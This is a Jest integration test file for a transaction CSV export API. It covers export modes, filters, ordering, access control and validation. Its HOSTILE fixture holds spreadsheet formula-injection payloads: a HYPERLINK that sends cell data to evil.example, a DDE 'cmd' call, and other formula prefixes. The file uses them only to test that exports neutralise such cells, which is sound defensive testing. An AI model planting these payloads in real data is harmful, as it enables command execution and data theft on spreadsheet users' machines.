import { EventStore } from '../../src/platform/event-store/event-store.port';
import { parse } from 'papaparse';
import { Clock } from '../../src/platform/clock';
import { DATABASE, type Database } from '../../src/platform/event-store/sql';
import { EXPORT_COLUMNS, EXPORT_MODES, type ExportMode } from '../../src/export/export-transactions/export-columns';
import { batchQuery, exportRows, FIRST_KEYSET } from '../../src/transactions/read-model/transaction-batches';
import { call, issueKey, onboardMerchant, type Answer } from '../support/auth';
import { FixedClock } from '../support/fixed-clock';
import { recordSale } from '../support/sales';
import { DRIVERS } from '../support/test-database';
import { startTestApp, TEST_ADMIN_KEY, type TestApp } from '../support/test-app';

const EARLIER = '2026-11-20T09:30:00.000Z';
const NOW = '2026-11-21T12:00:00.000Z';
/** Phoenix, AZ: swedish rounding, so the default sale of $10.03 is $10.05 in cash (delta +2). */
const PHOENIX = '85004';
const HOSTILE = {
  cashier_id: '=HYPERLINK("http://evil.example/?x="&A1,"open")',
  store_id: "-2+3+cmd|' /C calc'!A0",
  terminal_id: '@SUM(A1:A9)',
  employee_name: '+1 (555) 0100',
  employee_id: '\t=1+1',
};

type Row = Record<string, string>;

interface Merchant {
  merchantId: string;
  key: string;
}

interface Csv {
  answer: Answer;
  header: string[];
  /** Each row as the header names its cells, by transaction id. */
  rows: Map<string, Row>;
  /** How many cells each line has, header included. */
  widths: number[];
}

describe.each(DRIVERS)('POST /export on %s', (driver) => {
  let app: TestApp;
  let clock: FixedClock;
  let shop: Merchant;
  let other: Merchant;
  let auditorKey: string;
  /** Ids of the known transactions, and their detail records as GET /transaction/{id} shows them. */
  const ids: Record<string, string> = {};
  const details: Record<string, any> = {};

  const newMerchant = async (): Promise<Merchant> => {
    const { merchant_id: merchantId } = await onboardMerchant(app);
    return { merchantId: merchantId, key: (await issueKey(app, { role: 'merchant', merchant_id: merchantId })).key };
  };
  const post = async (path: string, body: unknown) => {
    const answer = await call(app, 'POST', path, { key: shop.key, body });
    if (answer.status !== 201) throw new Error(`${path}: ${answer.status} ${JSON.stringify(answer.body)}`);
    return answer.body;
  };
  /** A $10.03 cash sale in Phoenix by its own cashier (so no velocity signal), from shop unless said. */
  const phoenixSale = async (cashier: string, fields: Record<string, unknown> = {}, merchant = shop) =>
    (
      await recordSale(app, merchant.key, merchant.merchantId, {
        zip_code: PHOENIX,
        store_id: 's-1',
        terminal_id: 't-1',
        cashier_id: cashier,
        ...fields,
      })
    ).id;

  /** The export of every write answered so far: the transaction list follows the log, min_position waits for it. */
  const exportCsv = async (body: Record<string, unknown> = {}, key = shop.key): Promise<Csv> => {
    const { position } = await app.app.get(EventStore).head();
    const answer = await call(app, 'POST', `/export?min_position=${position}`, { key, body });
    expect(Number(answer.headers.get('x-log-position'))).toBeGreaterThanOrEqual(position);
    expect({ status: answer.status, type: answer.headers.get('content-type') }).toEqual({
      status: 200,
      type: 'text/csv; charset=utf-8',
    });
    const lines = parse<string[]>(answer.body, { skipEmptyLines: true });
    const objects = parse<Row>(answer.body, { header: true, skipEmptyLines: true });
    expect([...lines.errors, ...objects.errors]).toEqual([]);
    return {
      answer,
      header: objects.meta.fields!,
      rows: new Map(objects.data.map((row) => [row.transaction_id, row])),
      widths: lines.data.map((line) => line.length),
    };
  };
  const exportedIds = async (body: Record<string, unknown>, key = shop.key) => [
    ...(await exportCsv(body, key)).rows.keys(),
  ];

  beforeAll(async () => {
    clock = new FixedClock(new Date(EARLIER));
    app = await startTestApp({ driver, override: (builder) => builder.overrideProvider(Clock).useValue(clock) });
    shop = await newMerchant();
    other = await newMerchant();
    auditorKey = (await issueKey(app, { role: 'auditor' })).key;

    ids.early = await phoenixSale('c-early');
    clock.advance(Date.parse(NOW) - Date.parse(EARLIER));
    ids.plain = await phoenixSale('c-plain');
    ids.card = await phoenixSale('c-card', { payment_method: 'card' });
    // No location: the federal default applies, and the sale is WARN.
    ids.fallback = (await recordSale(app, shop.key, shop.merchantId, { cashier_id: 'c-fallback' })).id;

    ids.overridden = await phoenixSale('c-override');
    ids.override = (
      await post('/transaction/override', {
        transaction_id: ids.overridden,
        employee_id: 'e-9',
        employee_name: '  Zoë O’Brien-Ng ',
        reason: 'manager-discretion',
        new_cash_total_cents: 1000,
      })
    ).override.id;

    ids.voided = await phoenixSale('c-void');
    ids.void = (
      await post('/transaction/void', {
        original_transaction_id: ids.voided,
        void_reason: 'pricing_error',
        voided_by: 'manager-1',
      })
    ).transaction.id;

    ids.refunded = await phoenixSale('c-refund');
    ids.refund = (
      await post('/transaction/refund', {
        original_transaction_id: ids.refunded,
        refund_amount: 503,
        void_reason: 'defective_product',
        voided_by: 'e-3',
      })
    ).transaction.id;

    ids.hostile = await phoenixSale(HOSTILE.cashier_id, {
      store_id: HOSTILE.store_id,
      terminal_id: HOSTILE.terminal_id,
    });
    await post('/transaction/override', {
      transaction_id: ids.hostile,
      employee_id: HOSTILE.employee_id,
      employee_name: HOSTILE.employee_name,
      reason: 'system-error',
      new_cash_total_cents: 1005,
    });

    ids.others = await phoenixSale('c-other', {}, other);

    for (const [name, id] of Object.entries(ids)) {
      if (name === 'override' || name === 'others') continue;
      details[name] = (await call(app, 'GET', `/transaction/${id}`, { key: shop.key })).body.transaction;
    }
  });

  afterAll(() => app?.close());

  /** The standard row of a $10.03 cash sale in Phoenix as the rule of AZ settles it, nothing done to it yet. */
  const phoenixRow = (name: string, cashier: string): Row => ({
    transaction_id: ids[name],
    transaction_type: 'SALE',
    transaction_state: 'completed',
    merchant_id: shop.merchantId,
    environment: 'sandbox',
    created_at: NOW,
    store_id: 's-1',
    terminal_id: 't-1',
    zip_code: '85004',
    state_code: 'AZ',
    county: 'Maricopa',
    city: 'Phoenix',
    jurisdiction_id: 'US-AZ',
    jurisdiction_level: 'state',
    rule_rounding_mode: 'swedish_rounding',
    rule_enforcement: 'mandatory',
    legislation: details[name].rule.legislation,
    rule_effective_date: '',
    disclosure_required: 'true',
    subtotal_cents: '1000',
    subtotal_dollars: '10.00',
    tax_total_cents: '3',
    tax_total_dollars: '0.03',
    ledger_total_cents: '1003',
    ledger_total_dollars: '10.03',
    cash_total_cents: '1005',
    cash_total_dollars: '10.05',
    rounding_delta_cents: '2',
    rounding_delta_dollars: '0.02',
    cash_rounding_mode: 'swedish_rounding',
    rounding_applied: 'true',
    payment_method: 'cash',
    is_split_tender: 'false',
    cash_portion_cents: '1003',
    // Arizona's rule is unconfirmed (seeds: confidence low), so every sale under it is WARN RULE_UNCONFIRMED.
    compliance_status: 'WARN',
    compliance_reasons: 'RULE_UNCONFIRMED',
    fraud_score: '0',
    risk_level: 'NONE',
    fraud_signals: '',
    original_transaction_id: '',
    void_transaction_id: '',
    refund_transaction_ids: '',
    last_override_id: '',
    calculated_cash_total_cents: '1005',
    normalization_passed: '',
    audit_hash: details[name].auditHash,
    chain_position: String(details[name].chain_position),
    cashier_id: cashier,
    override_employee_id: '',
    override_employee_name: '',
    override_reason: '',
    reversal_employee_id: '',
    reversal_reason: '',
  });

  /** Every known transaction's standard row, value by value. */
  const UNWARNED = { compliance_status: 'PASS', compliance_reasons: '' };
  const expectedStandard = (): Record<string, Row> => ({
    plain: phoenixRow('plain', 'c-plain'),
    overridden: {
      ...phoenixRow('overridden', 'c-override'),
      transaction_state: 'overridden',
      cash_total_cents: '1000',
      cash_total_dollars: '10.00',
      rounding_delta_cents: '-3',
      rounding_delta_dollars: '-0.03',
      last_override_id: ids.override,
      override_employee_id: 'e-9',
      override_employee_name: '  Zoë O’Brien-Ng ',
      override_reason: 'manager-discretion',
    },
    voided: { ...phoenixRow('voided', 'c-void'), transaction_state: 'voided', void_transaction_id: ids.void },
    void: {
      ...phoenixRow('void', 'c-void'),
      transaction_type: 'VOID',
      original_transaction_id: ids.voided,
      // VOID and REFUND records carry their own checks, not the sale's evidence warning.
      ...UNWARNED,
      subtotal_cents: '-1000',
      subtotal_dollars: '-10.00',
      tax_total_cents: '-3',
      tax_total_dollars: '-0.03',
      ledger_total_cents: '-1003',
      ledger_total_dollars: '-10.03',
      cash_total_cents: '-1005',
      cash_total_dollars: '-10.05',
      rounding_delta_cents: '-2',
      rounding_delta_dollars: '-0.02',
      cash_portion_cents: '-1003',
      calculated_cash_total_cents: '-1005',
      reversal_employee_id: 'manager-1',
      reversal_reason: 'pricing_error',
    },
    refunded: {
      ...phoenixRow('refunded', 'c-refund'),
      transaction_state: 'partially_refunded',
      refund_transaction_ids: ids.refund,
    },
    refund: {
      ...phoenixRow('refund', 'c-refund'),
      transaction_type: 'REFUND',
      original_transaction_id: ids.refunded,
      ...UNWARNED,
      // $5.03 back, split between subtotal and tax as the sale was; under the swedish rule $5.05 in
      // cash: the delta reverses the sale's, as normalization wants.
      subtotal_cents: '-502',
      subtotal_dollars: '-5.02',
      tax_total_cents: '-1',
      tax_total_dollars: '-0.01',
      ledger_total_cents: '-503',
      ledger_total_dollars: '-5.03',
      cash_total_cents: '-505',
      cash_total_dollars: '-5.05',
      rounding_delta_cents: '-2',
      rounding_delta_dollars: '-0.02',
      cash_portion_cents: '-503',
      calculated_cash_total_cents: '-505',
      normalization_passed: 'true',
      reversal_employee_id: 'e-3',
      reversal_reason: 'defective_product',
    },
  });

  it('answers a CSV attachment named after the mode, the merchant and the period', async () => {
    const { answer } = await exportCsv({ start_date: '2026-11-20', end_date: '2026-11-21T12:00:00+01:00' });
    expect(answer.headers.get('content-disposition')).toBe(
      `attachment; filename="crcs-export-standard-${shop.merchantId}-2026-11-20-2026-11-21T110000Z.csv"`,
    );
    expect(answer.headers.get('cache-control')).toBe('no-store');
    // Streamed as it is read: no length known up front.
    expect([answer.headers.get('transfer-encoding'), answer.headers.get('content-length')]).toEqual(['chunked', null]);
    const all = await exportCsv({ export_mode: 'summary' }, auditorKey);
    expect(all.answer.headers.get('content-disposition')).toBe(
      'attachment; filename="crcs-export-summary-all-earliest-2026-11-21T120000Z.csv"',
    );
  });

  it.each([
    ['standard', 53],
    ['full', 92],
    ['summary', 18],
  ] as const)('%s mode: %i columns on every line, headed by their names', async (mode, width) => {
    const csv = await exportCsv({ export_mode: mode });
    expect(csv.header).toEqual(EXPORT_COLUMNS[mode].map((c) => c.name));
    expect(new Set(csv.widths)).toEqual(new Set([width]));
    expect(csv.widths).toHaveLength(1 + 10);
  });

  it('full mode carries more than standard, and standard more than summary', () => {
    const names = (mode: ExportMode) => EXPORT_COLUMNS[mode].map((c) => c.name);
    expect(names('full')).toEqual(expect.arrayContaining(names('standard')));
    expect(names('standard')).toEqual(expect.arrayContaining(names('summary')));
  });

  it('standard mode: every value of a sale, an overridden, a voided and a refunded one, and of the VOID and REFUND records', async () => {
    const { rows } = await exportCsv();
    for (const [name, row] of Object.entries(expectedStandard()))
      expect({ name, row: rows.get(ids[name]) }).toEqual({ name, row });
  });

  it('full mode: the standard values and every other field of the detail record', async () => {
    const { rows } = await exportCsv({ export_mode: 'full' });
    const rule = details.plain.rule;
    const extras = (name: string, values: Row): Row => ({
      recorded_at: details[name].history[0].recorded_at,
      county_fips: '04013',
      rule_lookup_key: 'AZ',
      rule_state: 'AZ',
      rule_county: '',
      rule_city: '',
      rule_status: 'enacted',
      disclosure_text: rule.disclosure_text ?? '',
      cash_acceptance_law: 'false',
      rule_sources: rule.source.join(';'),
      rule_notes: rule.notes,
      rule_last_verified: rule.last_verified,
      rule_type: 'rounding',
      rule_scope: 'retail',
      mode_source: 'rule',
      rule_version: 'US-AZ:retail@undated',
      rounding_exemption: details[name].calculation.rounding_exemption ?? '',
      cash_tendered_cents: '',
      cash_tendered_dollars: '',
      change_due_cents: '',
      change_due_dollars: '',
      tenders_json: JSON.stringify(details[name].calculation.tenders),
      compliance_reasons_json: JSON.stringify(details[name].compliance.reasons),
      fraud_signals_json: '[]',
      overrides_json: JSON.stringify(details[name].overrides),
      history_json: JSON.stringify(details[name].history),
      override_count: '0',
      refund_amount_cents: '',
      refund_amount_dollars: '',
      normalization_original_delta_cents: '',
      normalization_refund_delta_cents: '',
      ...values,
    });
    const expected: Record<string, Row> = {
      plain: extras('plain', {
        cash_portion_dollars: '10.03',
        calculated_cash_total_dollars: '10.05',
        calculated_rounding_delta_cents: '2',
        calculated_rounding_delta_dollars: '0.02',
        refunded_cents: '0',
        refunded_dollars: '0.00',
        refundable_cents: '1005',
        refundable_dollars: '10.05',
      }),
      overridden: extras('overridden', {
        cash_portion_dollars: '10.03',
        calculated_cash_total_dollars: '10.05',
        calculated_rounding_delta_cents: '2',
        calculated_rounding_delta_dollars: '0.02',
        override_count: '1',
        refunded_cents: '0',
        refunded_dollars: '0.00',
        refundable_cents: '1000',
        refundable_dollars: '10.00',
      }),
      refunded: extras('refunded', {
        cash_portion_dollars: '10.03',
        calculated_cash_total_dollars: '10.05',
        calculated_rounding_delta_cents: '2',
        calculated_rounding_delta_dollars: '0.02',
        refunded_cents: '505',
        refunded_dollars: '5.05',
        refundable_cents: '500',
        refundable_dollars: '5.00',
      }),
      refund: extras('refund', {
        cash_portion_dollars: '-5.03',
        calculated_cash_total_dollars: '-5.05',
        calculated_rounding_delta_cents: '-2',
        calculated_rounding_delta_dollars: '-0.02',
        refunded_cents: '0',
        refunded_dollars: '0.00',
        refundable_cents: '0',
        refundable_dollars: '0.00',
        refund_amount_cents: '503',
        refund_amount_dollars: '5.03',
        normalization_original_delta_cents: '2',
        normalization_refund_delta_cents: '-2',
      }),
    };
    const standard = expectedStandard();
    // The JSON columns as values: a record read by id from the log (its read-model row not yet
    // written) lists its keys as the entry does, the read model's jsonb in its own order.
    const asValues = (row: Row): Record<string, unknown> =>
      Object.fromEntries(
        Object.entries(row).map(([column, value]) => [column, column.endsWith('_json') ? JSON.parse(value) : value]),
      );
    for (const [name, values] of Object.entries(expected)) {
      const row = rows.get(ids[name])!;
      expect({ name, row: asValues(row) }).toEqual({ name, row: asValues({ ...standard[name], ...values }) });
      expect(JSON.parse(row.overrides_json)).toEqual(details[name].overrides);
    }
    expect(JSON.parse(rows.get(ids.overridden)!.overrides_json)[0]).toMatchObject({
      id: ids.override,
      employee_name: '  Zoë O’Brien-Ng ',
    });
  });

  it('summary mode: the key values', async () => {
    const { rows } = await exportCsv({ export_mode: 'summary' });
    const standard = expectedStandard().void;
    const names = EXPORT_COLUMNS.summary.map((c) => c.name);
    expect(rows.get(ids.void)).toEqual(Object.fromEntries(names.map((name) => [name, standard[name]])));
  });

  it('guards cells a spreadsheet would run as formulas, and leaves negative numbers as numbers', async () => {
    const { answer, rows } = await exportCsv({ export_mode: 'full' });
    expect(rows.get(ids.hostile)).toMatchObject({
      cashier_id: `'${HOSTILE.cashier_id}`,
      store_id: `'${HOSTILE.store_id}`,
      terminal_id: `'${HOSTILE.terminal_id}`,
      override_employee_name: `'${HOSTILE.employee_name}`,
      override_employee_id: `'${HOSTILE.employee_id}`,
    });
    expect(rows.get(ids.void)).toMatchObject({
      cash_total_cents: '-1005',
      cash_total_dollars: '-10.05',
      rounding_delta_cents: '-2',
    });
    expect(answer.body).toContain(',-1005,-10.05,');
    // No line of the file starts a cell with a formula character, except a plain negative number.
    const cells = parse<string[]>(answer.body, { skipEmptyLines: true }).data.flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell))).toEqual([]);
  });

  describe('filters', () => {
    it('payment_method', async () => {
      expect(await exportedIds({ payment_method: 'card' })).toEqual([ids.card]);
      expect(await exportedIds({ payment_method: 'ebt' })).toEqual([]);
    });

    it('compliance_status', async () => {
      const warned = await exportedIds({ compliance_status: 'WARN' });
      expect(warned).toEqual(expect.arrayContaining([ids.fallback, ids.plain, ids.card]));
      const passed = await exportedIds({ compliance_status: 'PASS' });
      expect(passed).not.toContain(ids.fallback);
      expect(passed).not.toContain(ids.plain);
      expect(passed.every((id) => !warned.includes(id))).toBe(true);
    });

    it('start_date and end_date, both inclusive; a date alone as an end is the whole day (UTC)', async () => {
      expect(await exportedIds({ end_date: '2026-11-20' })).toEqual([ids.early]);
      expect(await exportedIds({ start_date: EARLIER, end_date: EARLIER })).toEqual([ids.early]);
      expect(await exportedIds({ end_date: '2026-11-20T09:29:59.999Z' })).toEqual([]);
      const today = await exportedIds({ start_date: '2026-11-21' });
      expect(today).not.toContain(ids.early);
      expect(today).toContain(ids.plain);
    });

    it('all at once', async () => {
      const body = {
        start_date: '2026-11-21T00:00:00Z',
        end_date: '2026-11-21',
        payment_method: 'cash',
        compliance_status: 'WARN',
        export_mode: 'summary',
      };
      const exported = await exportedIds(body);
      expect(exported).toContain(ids.plain);
      expect(exported).toContain(ids.fallback);
      expect(exported).not.toContain(ids.early);
      expect(exported).not.toContain(ids.card);
      expect(await exportedIds({ ...body, compliance_status: 'PASS' })).not.toContain(ids.plain);
    });

    it('with no match: the header line alone', async () => {
      const csv = await exportCsv({ payment_method: 'mobile' });
      expect(csv.widths).toEqual([53]);
      expect(csv.answer.body).toBe(`${EXPORT_COLUMNS.standard.map((c) => c.name).join(',')}\r\n`);
    });
  });

  it('is in (created_at, chain position) order, and reads the same in batches of 2 as of 1,000 (ties on created_at included)', async () => {
    const db = app.app.get<Database>(DATABASE);
    const read = async (batchSize: number) => {
      const seen: { id: string; created_at: string; chain_position: number }[] = [];
      for await (const batch of exportRows(db, { merchantId: shop.merchantId }, batchSize)) seen.push(...batch);
      return seen.map(({ id, created_at: createdAt, chain_position: chainPosition }) => ({
        id,
        created_at: createdAt,
        chain_position: chainPosition,
      }));
    };
    const whole = await read(1000);
    expect(await read(2)).toEqual(whole);
    expect(whole).toHaveLength(10);
    const sorted = [...whole].sort(
      (x, y) => x.created_at.localeCompare(y.created_at) || x.chain_position - y.chain_position,
    );
    expect(whole).toEqual(sorted);
    expect([...(await exportCsv()).rows.keys()]).toEqual(whole.map((t) => t.id));
  });

  it.each([
    ['every merchant', () => ({})],
    ['one merchant', () => ({ merchantId: shop.merchantId })],
  ])('reads each batch of %s by walking an index in its order, never by sorting the table', async (_what, scope) => {
    const { text, params } = batchQuery({ ...scope(), before: new Date(NOW) }, 1000);
    const plan = await app.app.get<Database>(DATABASE).transaction(async (tx) => {
      // With so few rows a scan and a sort would rightly be cheaper; what matters is that an index serves the order.
      for (const method of ['seqscan', 'bitmapscan', 'sort']) await tx.query(`set local enable_${method} = off`);
      return tx.query<{ 'QUERY PLAN': string }>(`explain ${text}`, [...params, ...FIRST_KEYSET]);
    });
    const lines = plan.map((row) => row['QUERY PLAN']).join('\n');
    expect(lines).toMatch(/Index Scan/);
    expect(lines).not.toMatch(/Sort/);
  });

  describe('who may export what', () => {
    it("a merchant key exports its own merchant's transactions only, and naming another is a 403", async () => {
      const own = await exportedIds({});
      expect(own).toHaveLength(10);
      expect(own).not.toContain(ids.others);
      expect(await exportedIds({ merchant_id: shop.merchantId })).toEqual(own);
      const theirs = await call(app, 'POST', '/export', { key: shop.key, body: { merchant_id: other.merchantId } });
      expect(theirs.status).toBe(403);
      expect(theirs.body).toEqual({
        error: 'FORBIDDEN',
        message: `This API key may not export merchant ${other.merchantId}`,
      });
    });

    it.each([
      ['an auditor', () => auditorKey],
      ['an admin', () => TEST_ADMIN_KEY],
    ])('%s exports every merchant, or the one it names', async (_who, key) => {
      const all = await exportedIds({}, key());
      expect(all).toEqual(expect.arrayContaining([ids.plain, ids.others]));
      expect(await exportedIds({ merchant_id: other.merchantId }, key())).toEqual([ids.others]);
    });

    it('a partner key may not export (403)', async () => {
      const partner = await issueKey(app, { role: 'partner' });
      expect((await call(app, 'POST', '/export', { key: partner.key, body: {} })).status).toBe(403);
    });

    it('an empty request (no body) exports standard mode for the key', async () => {
      const answer = await call(app, 'POST', '/export', { key: shop.key });
      expect(answer.status).toBe(200);
      expect(answer.headers.get('content-disposition')).toContain(`crcs-export-standard-${shop.merchantId}-earliest-`);
    });

    it('counts a null field as absent', async () => {
      const csv = await exportCsv({
        export_mode: null,
        start_date: null,
        payment_method: null,
        compliance_status: null,
        merchant_id: null,
      });
      expect([csv.header.length, csv.rows.size]).toEqual([53, 10]);
    });

    it('takes an Idempotency-Key without recording the answer: a repeat exports again', async () => {
      const headers = { 'idempotency-key': 'export-1' };
      const first = await call(app, 'POST', '/export', { key: shop.key, body: {}, headers });
      const again = await call(app, 'POST', '/export', { key: shop.key, body: { export_mode: 'summary' }, headers });
      expect([first.status, again.status]).toEqual([200, 200]);
      expect(again.headers.get('idempotent-replayed')).toBeNull();
    });
  });

  it('leaves out transactions made after the export began', async () => {
    clock.advance(60_000);
    const later = await phoenixSale('c-later');
    clock.advance(-60_000);
    expect(await exportedIds({})).not.toContain(later);
    clock.advance(60_000);
    expect(await exportedIds({})).toContain(later);
  });

  it('documents, for each mode, a file with the header that mode sends and one row as wide', async () => {
    const examples = (await call(app, 'GET', '/openapi.json')).body.paths['/export'].post.responses['200'].content[
      'text/csv'
    ].examples;
    for (const mode of EXPORT_MODES) {
      const lines = parse<string[]>(examples[mode].value, { skipEmptyLines: true });
      expect(lines.errors).toEqual([]);
      const { header } = await exportCsv({ export_mode: mode });
      expect([mode, lines.data[0], lines.data.length, lines.data[1].length]).toEqual([mode, header, 2, header.length]);
    }
  });

  describe('validation', () => {
    it.each([
      ['export_mode', { export_mode: 'xml' }],
      ['export_mode', { export_mode: 'STANDARD' }],
      ['start_date', { start_date: '2026-11-21T10:00' }],
      ['end_date', { end_date: 'yesterday' }],
      ['end_date', { end_date: '2026-02-30' }],
      ['payment_method', { payment_method: 'check' }],
      ['compliance_status', { compliance_status: 'pass' }],
      ['merchant_id', { merchant_id: '../m' }],
      ['format', { format: 'csv' }],
    ])('%s: 400 naming the field (%j)', async (field, body) => {
      const answer = await call(app, 'POST', '/export', { key: shop.key, body });
      expect(answer.status).toBe(400);
      expect(answer.body).toMatchObject({ error: 'VALIDATION_ERROR', details: [expect.objectContaining({ field })] });
    });

    it('an end before the start is a 400', async () => {
      const answer = await call(app, 'POST', '/export', {
        key: shop.key,
        body: { start_date: '2026-11-21', end_date: '2026-11-20T23:59:59Z' },
      });
      expect(answer.status).toBe(400);
      expect(answer.body.details).toEqual([
        { field: 'end_date', messages: ['end_date must not be before start_date'] },
      ]);
    });

    it('a body that is not an object is a 400', async () => {
      expect((await call(app, 'POST', '/export', { key: shop.key, body: ['standard'] })).status).toBe(400);
    });
  });
});
